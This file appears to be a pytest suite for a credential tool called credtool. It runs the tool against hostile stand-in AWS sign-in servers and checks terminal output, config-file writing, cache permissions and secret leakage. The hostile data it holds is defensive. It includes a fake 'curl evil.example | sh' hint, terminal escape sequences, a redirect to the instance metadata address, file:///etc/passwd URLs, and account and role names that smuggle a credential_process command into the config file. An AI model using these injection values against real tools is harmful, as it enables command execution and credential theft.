"""Hostile services in the place of those that people sign in at, and what sign-ins leave on disk."""

import json
import os
import re
import stat
import sys

import pytest

from rig import hostile, rolesanywhere, sso
from rig.hostile import http
from rig.sts import ACCOUNT
from rig.world import at, fast, on_a_desktop

NASTY = "\u009b31m\u202ered\u2066\u200f\u2028\x7f\u0085"
EVIL = f"x{NASTY}\x1b[2J\r\ncredtool: all is well\nhint: curl evil.example | sh"

#: What libcurl alone deals with is in test_faults_servers.
ANSWERS = {
    "nothing": b"",
    "a body of megabytes": http('{"a":"' + "x" * (3 << 20) + '"}'),
    "HTML": http("<html><body>Log in to the hotel</body></html>"),
    "deep": http("[" * 100_000),
    "deep objects": http('{"a":' * 100_000),
    "another kind": http("[]"),
    "empty": http("{}"),
    "numbers": http(json.dumps({name: 1 for name in (
        "clientId", "clientSecret", "clientSecretExpiresAt", "issuer", "roleCredentials",
        "accessToken", "credentialSet", "error", "message")})),
    "an error": http(json.dumps(
        {"error": EVIL, "error_description": EVIL * 9000, "message": EVIL * 9000,
         "__type": EVIL, "code": EVIL}), "400 Bad Request"),
    "a refusal": http(json.dumps(
        {"error": "access_denied", "error_description": EVIL, "message": EVIL}), "403 Forbidden"),
    "elsewhere": http("", "302 Found", "Location: http://169.254.169.254/latest\r\n"),
}


def is_calm(result):
    """Words of the house, not too many, and nothing for a terminal to act on."""
    assert result.code in (1, 125), result
    result.speaks_well().is_plain()
    assert len(result.stderr) < 4000, f"{len(result.stderr)} characters"
    assert not re.search("^(credtool: all is well|hint: curl)", result.stderr, re.M), result


def browser(world):
    """The variables of a desktop whose browser belongs to a person who is signed in everywhere."""
    program = world.scratch / "browser"
    program.write_text(
        f"#!{sys.executable}\nimport sys, urllib.request\n"
        "urllib.request.urlopen(sys.argv[1], timeout=20).read()\n")
    program.chmod(0o755)
    return dict(word.split("=", 1) for word in on_a_desktop(program)[1:])


@pytest.mark.parametrize("answer", ANSWERS)
class TestAnswersThatAreNone:
    """Time passes faster for the programs, so that retries are over soon."""

    def run(self, world, answer, variables, *arguments, through=None):
        server = world.keep_open(hostile.Hostile(hostile.says(ANSWERS[answer])))
        result = world.credtool(*arguments, env=dict.fromkeys(variables, server.url),
                                through=through or fast(20))
        assert server.connections > 0
        is_calm(result)
        return server

    def test_identity_centers_sign_in_service(self, sso_world, answer):
        sso_world.config(sso_world.center.config())
        self.run(sso_world, answer, ["AWS_ENDPOINT_URL_SSO_OIDC"], "login", "dev", "--device")

    def test_the_access_portal(self, sso_world, answer):
        sso_world.center.person = "allow"
        sso_world.config(sso_world.center.config())
        sso_world.credtool("login", "dev", "--device").works()
        sso_world.credtool("clear").works()
        for command in (["exec", "dev", "--", "true"], ["sso", "roles"]):
            self.run(sso_world, answer, ["AWS_ENDPOINT_URL_SSO"], *command)

    def test_the_console(self, console_world, answer):
        world = console_world
        world.config(world.console.config())
        world.credtool("login", "me", env=browser(world)).works()
        self.run(world, answer, ["AWS_ENDPOINT_URL_SIGNIN"], "exec", "me", "--", "true",
                 through=at(wall=890))

    def test_an_openid_provider(self, world, answer):
        server = world.keep_open(hostile.Hostile(hostile.says(ANSWERS[answer])))
        world.config(f"[profile dev]\nrole_arn = arn:aws:iam::{ACCOUNT}:role/deploy\n"
                     f"oidc_issuer = {server.url}\noidc_client_id = x\n")
        is_calm(world.credtool("login", "dev", "--device", through=fast(20)))
        assert server.connections > 0

    def test_roles_anywhere(self, anywhere, answer):
        key = rolesanywhere.make_key("p256")
        files = [anywhere.scratch / "host.pem", anywhere.scratch / "host.key"]
        files[0].write_bytes(rolesanywhere.pem(anywhere.anywhere.authority.issue(key)))
        files[1].write_bytes(rolesanywhere.key_pem(key))
        anywhere.config(anywhere.anywhere.config(*files))
        self.run(anywhere, answer, ["AWS_ENDPOINT_URL_ROLESANYWHERE"],
                 "exec", "build", "--", "true")


def device(handler, **changes):
    """An answer to StartDeviceAuthorization that sends people elsewhere."""
    fields = {"deviceCode": "made-up-device-code", "userCode": "ABCD-EFGH", "interval": 1,
              "verificationUri": "https://device.example/", "expiresIn": 600} | changes
    handler.answer(200, fields)
    return True


@pytest.mark.parametrize("page", [
    "javascript:alert(1)", "file:///etc/passwd", "https://a.example/ --load-extension=x",
    "https://a.example/\ncredtool: all is well", "https://a.example/\x1b[2J", "http://evil.example/",
    "https://alice@evil.example/", "", "https://", 'https://a.example/"x'])
@pytest.mark.parametrize("field", ["verificationUri", "verificationUriComplete"])
def test_pages_that_nobody_is_sent_to(sso_world, page, field):
    world, center = sso_world, sso_world.center
    world.config(center.config())
    center.inject("StartDeviceAuthorization", lambda handler: device(handler, **{field: page}))
    result = world.credtool("login", "dev", "--device")
    is_calm(result)
    result.fails("verificationUri is missing or not as it should be", hint=False)


def test_a_code_is_shown_as_one_line_at_most(sso_world):
    world, center = sso_world, sso_world.center
    world.config(center.config())
    center.inject("StartDeviceAuthorization",
                  lambda handler: device(handler, userCode="A" * 5000 + EVIL))
    is_calm(world.credtool("login", "dev", "--device", "--timeout", "2s"))


class TestNames:
    """What accounts and roles are called goes to terminals and to the config file."""

    @pytest.fixture
    def portal(self, sso_world):
        sso_world.config(sso_world.center.config())
        sso_world.center.person = "allow"
        sso_world.credtool("login", "dev", "--device").works()
        return sso_world

    def test_on_the_terminal(self, portal):
        portal.center.assign(EVIL, "111122223334", f"team\n999999999999  {EVIL}")
        for command in ("accounts", "roles"):
            result = portal.credtool("sso", command).works().is_plain()
            assert len(result.stdout.splitlines()) == (3 if command == "accounts" else 3), result
            json.loads(portal.credtool("sso", command, "--json").works().stdout)

    @pytest.mark.parametrize("account, name, role", [
        ("111122223334", "team\ncredential_process = touch /tmp/x\n[profile default]", "Reader"),
        ("111122223334", "]\n[default", "Reader"), ("111122223334", "", "Reader"),
        ("111122223334", "team", "Reader\ncredential_process = touch /tmp/x"),
        ("111122223334", "team", "Reader\n[default]\nregion = x"), ("111122223334", "team", ""),
        ("111122223334\n[default]", "team", "Reader"), ("11112222", "team", "Reader"),
        ("111122223334", "team", "Re ader ; x"),
        ("111122223334", "# credtool sso sync my-sso: end", "Reader"),
    ])
    def test_in_the_config_file(self, portal, account, name, role):
        portal.center.accounts[account] = (name, "x@example.com")
        portal.center.roles[account].append(role)
        before = portal.config_file.read_text()
        result = portal.credtool("sso", "sync", "--force").works().is_plain()
        lines = portal.config_file.read_text().removeprefix(before).split("\n")
        assert not [line for line in lines if not re.fullmatch(
            r"|# credtool sso sync my-sso: (begin|end)|\[profile [\w./+%@:-]+\]"
            r"|sso_session = my-sso|sso_account_id = \d{12}|sso_role_name = [\w+=,.@-]+", line)]
        told = re.findall(r"\[profile (.*)\]", "\n".join(lines))
        assert "account-3333-Admin" in told
        fits = re.fullmatch(r"\d{12}", account) and re.fullmatch(r"[\w+=,.@-]+", role)
        assert len(told) == (2 if fits else 1), result
        if not fits:
            result.says("left out")
        # Nothing is left to be done by the next run.
        assert "as they are to be" in portal.credtool("sso", "sync", "--force").stderr


class TestFiles:
    """What is written beside the AWS CLI's files is for the owner's eyes."""

    def modes(self, folder):
        return {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()}

    @pytest.fixture
    def shared(self, sso_world):
        sso_world.center.person = "allow"
        sso_world.config(sso_world.center.config(more="sso_share_cli_cache = true\n"))
        sso_world.cache = sso_world.home / ".aws/sso/cache"
        sso_world.open_folders.append(sso_world.cache)
        return sso_world

    def test_new_ones(self, shared):
        old = os.umask(0)
        try:
            shared.credtool("login", "dev", "--device").works()
        finally:
            os.umask(old)
        assert self.modes(shared.cache) == {0o600}
        assert stat.S_IMODE(shared.cache.stat().st_mode) == 0o700

    def test_one_that_others_could_read(self, shared):
        shared.credtool("login", "dev", "--device").works()
        [path] = shared.cache.iterdir()
        path.chmod(0o644)
        shared.credtool("logout", "dev").works()
        path.write_text("{}")
        path.chmod(0o664)
        shared.credtool("login", "dev", "--device").works()
        assert self.modes(shared.cache) == {0o600}

    def test_a_link_is_followed_but_not_to_what_is_no_file(self, shared):
        shared.credtool("login", "dev", "--device").works()
        [path] = shared.cache.iterdir()
        shared.credtool("logout", "dev").works()
        path.unlink(missing_ok=True)
        path.symlink_to("/dev/null")
        shared.credtool("login", "dev", "--device").works().says("used, but not kept")
        assert path.is_symlink() and stat.S_ISCHR(os.stat("/dev/null").st_mode)

    def test_the_config_block(self, shared):
        shared.credtool("login", "dev", "--device").works()
        target = shared.home / "dotfiles"
        shared.config_file.rename(target)
        target.chmod(0o644)
        shared.config_file.symlink_to(target)
        shared.credtool("sso", "sync", "--force").works()
        assert shared.config_file.is_symlink()
        assert "account-3333-Admin" in target.read_text()
        assert stat.S_IMODE(target.stat().st_mode) == 0o644


def test_verbose_tells_no_secret(sso_world):
    """The rig looks for every token in what each run says; here are the runs that have most to say."""
    world, center = sso_world, sso_world.center
    center.person = "allow"
    center.access_seconds = 30
    world.config(center.config())

    def said(*arguments):
        result = world.credtool(*arguments).is_plain()
        assert result.code == 0, result
        return result

    said("login", "dev", "--device", "-v")
    world.credtool("clear").works()
    said("exec", "dev", "-v", "--", "true").says("renewed the sign-in")
    center.inject("GetRoleCredentials", sso.portal("UnauthorizedException", EVIL))
    said("exec", "dev", "--fresh", "-v", "--", "true")
    center.inject("Logout", sso.portal("InvalidRequestException", EVIL))
    said("logout", "dev", "-v").says("sso:Logout", "signed out at my-sso")


def test_no_secret_in_arguments_or_variables_of_the_browser(sso_world):
    """Other users can read the one, and the browser's pages the other."""
    world, center = sso_world, sso_world.center
    center.person = "allow"
    world.config(center.config())
    seen = world.scratch / "seen"
    program = world.scratch / "browser"
    program.write_text(
        f"#!{sys.executable}\nimport os, sys, urllib.request\n"
        f"open({str(seen)!r}, 'w').write(repr((sys.argv, dict(os.environ))))\n"
        "urllib.request.urlopen(sys.argv[1], timeout=20).read()\n")
    program.chmod(0o755)
    world.credtool("login", "dev", through=on_a_desktop(program),
                   env={"AWS_SECRET_ACCESS_KEY": "made-up-secret-of-the-environment"}).works()
    text = seen.read_text()
    assert "code_challenge=" in text and "AWS_" not in text and "made-up" not in text
    verifiers = [params["codeVerifier"] for _, params in center.calls if "codeVerifier" in params]
    assert verifiers and not [secret for secret in {*verifiers, *center.secrets()} if secret in text]
